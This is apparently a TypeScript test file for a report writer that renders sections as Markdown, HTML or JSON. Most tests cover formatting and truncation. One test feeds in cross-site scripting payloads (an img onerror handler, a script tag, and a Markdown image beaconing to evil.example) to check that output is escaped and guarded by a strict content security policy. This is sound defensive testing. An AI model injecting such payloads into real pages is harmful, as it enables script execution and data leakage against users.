import assert from 'node:assert/strict';
import { test } from 'node:test';

import { logReport } from './log-report.ts';
import { attempt, memoryWorkspace, outputOf } from './testing.ts';

const sections = [
  { heading: 'Summary', content: 'Two items.\n\nSecond paragraph.' },
  {
    heading: 'Table',
    content: [
      { name: 'a|b', price: 1 },
      { name: 'c', note: { x: null } },
    ],
  },
  { heading: 'List', content: ['one', 2, null] },
  { heading: 'Fields', content: { total: 3, ok: true } },
  { heading: 'Number', content: 42 },
];

async function written(input: object): Promise<{ text: string; output: Record<string, unknown> }> {
  const workspace = memoryWorkspace();
  const output = await outputOf<{ name: string }>(logReport(workspace), input);
  const file = workspace.files.get(`run_1 ${output.name}`);
  assert.ok(file);
  return { text: file.content.toString(), output: { ...output, stored: file.mediaType } };
}

test('a report in Markdown', async () => {
  const { text, output } = await written({ title: 'Prices', sections, level: 'warn' });
  assert.equal(
    text,
    [
      '# Prices',
      '**Warning**',
      '## Summary',
      'Two items.\n\nSecond paragraph.',
      '## Table',
      '| name | price | note |\n| --- | --- | --- |\n| a\\|b | 1 |  |\n| c |  | {"x":null} |',
      '## List',
      '- one\n- 2\n- –',
      '## Fields',
      '- **total**: 3\n- **ok**: true',
      '## Number',
      '42\n',
    ].join('\n\n'),
  );
  assert.equal(output['name'], 'reports/step.md');
  assert.equal(output['mediaType'], 'text/markdown; charset=utf-8');
  assert.equal(output['stored'], output['mediaType']);
  assert.equal(output['title'], 'Prices');
  assert.equal(output['bytes'], Buffer.byteLength(text));
});

test('a report in HTML', async () => {
  const { text } = await written({ title: 'Prices', sections, format: 'html', name: 'p.html' });
  assert.match(text, /^<!doctype html>/);
  assert.match(text, /<h1>Prices<\/h1>/);
  assert.match(text, /<p>Two items\.<\/p>\n<p>Second paragraph\.<\/p>/);
  assert.match(text, /<th scope="col">price<\/th>/);
  assert.match(text, /<td>a\|b<\/td><td>1<\/td><td><\/td>/);
  assert.match(text, /<li>one<\/li>\n<li>2<\/li>/);
  assert.match(text, /<dt>total<\/dt><dd>3<\/dd>/);
});

test('a report in JSON holds what was given', async () => {
  const { text } = await written({ title: 'Prices', sections, format: 'json' });
  assert.deepEqual(JSON.parse(text), { title: 'Prices', level: 'info', sections });
});

const attack = `<img src=x onerror=alert(1)></td><script>alert(1)</script>"'&![x](https://evil.example/?d=1)`;
const everywhere = {
  title: attack,
  sections: [
    { heading: attack, content: attack },
    { heading: 'h', content: [{ [attack]: attack }] },
    { heading: 'h', content: [attack] },
    { heading: 'h', content: { [attack]: attack } },
  ],
};

test('no text becomes HTML or loads anything', async () => {
  for (const format of ['html', 'markdown']) {
    const { text } = await written({ ...everywhere, format });
    assert.ok(!/<(img|script)\b(?!.*Content-Security)/i.test(text), text);
    assert.ok(!text.includes('<img'), format);
    assert.ok(!text.includes('<script'), format);
    if (format === 'markdown') assert.ok(!text.includes('![x]('));
  }
  const { text } = await written({ ...everywhere, format: 'html' });
  assert.match(text, /default-src 'none'/);
  assert.equal((text.match(/<td>/g) ?? []).length, 1);
});

test('the same report has the same bytes', async () => {
  const ask = { title: 'x', sections };
  assert.equal((await written(ask)).text, (await written(ask)).text);
});

test('a table that is too long is cut, and says so', async () => {
  const content = Array.from({ length: 2001 }, (_, n) => ({ n }));
  const result = await attempt(logReport(memoryWorkspace()), {
    title: 'x',
    sections: [{ heading: 'Long', content }],
  });
  assert.ok(result.outcome === 'completed');
  assert.deepEqual(result.notes, ['Long: only the first 2000 of 2001 entries are shown.']);
});
